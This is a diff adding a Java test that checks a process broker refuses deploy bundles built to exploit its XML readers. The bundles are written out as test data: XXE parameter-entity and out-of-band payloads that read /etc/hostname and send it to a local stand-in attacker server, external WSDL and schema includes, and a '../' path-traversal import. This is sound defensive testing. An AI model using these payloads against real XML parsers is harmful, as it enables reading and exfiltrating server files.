@@ -11,6 +11,7 @@ import java.net.URI;
 import java.net.http.HttpClient;
 import java.net.http.HttpRequest;
 import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.ArrayList;
@@ -161,6 +162,76 @@ class ProcessManagementTest {
         refused(404, "no deployed unit 'ghost'", operator("DELETE", "/admin/processes/ghost", null), before);
         refused(403, "not an operator", admin("POST", "/admin/processes/other", zip(unit(null, null)), "alice", "alice-secret"), before);
         refused(401, "authentication required", admin("DELETE", "/admin/processes/echo-pair", null, null, null), before);
+    }
+
+    /** {@code text} with a DOCTYPE inserted after its XML declaration (or at its start). */
+    static String doctype(String text, String root, String subset) {
+        String decl = text.startsWith("<?xml") ? text.substring(0, text.indexOf("?>") + 2) : "";
+        return decl + "<!DOCTYPE " + root + " [" + subset + "]>" + text.substring(decl.length());
+    }
+
+    static Map<String, byte[]> with(String file, java.util.function.UnaryOperator<String> change) throws IOException {
+        Map<String, byte[]> files = unit(null, null);
+        files.put(file, change.apply(new String(files.get(file), StandardCharsets.UTF_8)).getBytes(StandardCharsets.UTF_8));
+        return files;
+    }
+
+    /**
+     * Bundles built to make the broker read a local file or fetch a URL through one of its XML
+     * readers (XMLBeans for deploy.xml, WSDL4J and ODE's compiler for WSDLs and processes): each
+     * is refused before any of them reads it. The listener standing in for the attacker's server
+     * is never called, and neither the answer nor the public /health names the server's
+     * directories or the error.
+     */
+    @Test
+    @Order(2)
+    void bundlesThatWouldReadFilesOrFetchUrlsAreRefusedBeforeAnyXmlLibraryReadsThem() throws Exception {
+        List<String> fetched = new java.util.concurrent.CopyOnWriteArrayList<>();
+        com.sun.net.httpserver.HttpServer attacker = com.sun.net.httpserver.HttpServer.create(new java.net.InetSocketAddress("127.0.0.1", 0), 0);
+        attacker.createContext("/", x -> {
+            fetched.add(x.getRequestURI().toString());
+            byte[] dtd = "<!ENTITY % all \"<!ENTITY send SYSTEM 'http://127.0.0.1/x?%file;'>\"> %all;".getBytes(StandardCharsets.UTF_8);
+            x.sendResponseHeaders(200, dtd.length);
+            x.getResponseBody().write(dtd);
+            x.close();
+        });
+        attacker.start();
+        try {
+            String evil = "http://127.0.0.1:" + attacker.getAddress().getPort();
+            String before = state();
+            Map<String, Map<String, byte[]>> bundles = new LinkedHashMap<>();
+            Map<String, String> reasons = new LinkedHashMap<>();
+            bundles.put("dd-parameter-entity", with("deploy.xml", t -> doctype(t, "deploy", "<!ENTITY % x SYSTEM \"" + evil + "/dd.dtd\"> %x;")));
+            reasons.put("dd-parameter-entity", "deploy.xml: a DOCTYPE is not allowed");
+            bundles.put("dd-out-of-band", with("deploy.xml", t -> doctype(t, "deploy",
+                    "<!ENTITY % file SYSTEM \"file:///etc/hostname\"><!ENTITY % dtd SYSTEM \"" + evil + "/oob.dtd\"> %dtd;")));
+            reasons.put("dd-out-of-band", "deploy.xml: a DOCTYPE is not allowed");
+            bundles.put("wsdl-entity", with("Partner.wsdl", t -> doctype(t, "definitions", "<!ENTITY e SYSTEM \"" + evil + "/wsdl\">")
+                    .replace("</definitions>", "<documentation>&e;</documentation></definitions>")));
+            reasons.put("wsdl-entity", "Partner.wsdl: a DOCTYPE is not allowed");
+            bundles.put("bpel-entity", with("EchoPair.bpel", t -> doctype(t, "process", "<!ENTITY % x SYSTEM \"" + evil + "/bpel.dtd\"> %x;")));
+            reasons.put("bpel-entity", "EchoPair.bpel: a DOCTYPE is not allowed");
+            bundles.put("import-url", with("EchoPair.bpel", t -> t.replace("location=\"Partner.wsdl\"", "location=\"" + evil + "/Partner.wsdl\"")));
+            reasons.put("import-url", "points outside the unit");
+            bundles.put("import-up", with("EchoPair.bpel", t -> t.replace("location=\"Partner.wsdl\"", "location=\"../../../../etc/Partner.wsdl\"")));
+            reasons.put("import-up", "points outside the unit");
+            bundles.put("schema-include-url", with("Partner.wsdl", t -> t.replace("<types>",
+                    "<types><xsd:schema targetNamespace=\"urn:x\"><xsd:include schemaLocation=\"" + evil + "/x.xsd\"/></xsd:schema>")));
+            reasons.put("schema-include-url", "points outside the unit");
+            String work = ProcessManagementTest.work.toAbsolutePath().toString();
+            for (var b : bundles.entrySet()) {
+                HttpResponse<String> r = operator("POST", "/admin/processes/" + b.getKey(), zip(b.getValue()));
+                refused(400, reasons.get(b.getKey()), r, before);
+                assertEquals(List.of(), fetched, b.getKey() + ": the broker fetched the attacker's URL: " + r.body());
+                assertFalse(r.body().contains(work) || r.body().contains(System.getProperty("java.io.tmpdir") + "/"),
+                        b.getKey() + ": the answer names the server's directories: " + r.body());
+            }
+            String health = HTTP.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + broker.port() + "/health")).build(),
+                    HttpResponse.BodyHandlers.ofString()).body();
+            assertFalse(health.contains("DOCTYPE") || health.contains(work), health);
+        } finally {
+            attacker.stop(0);
+        }
     }
 
     @Test
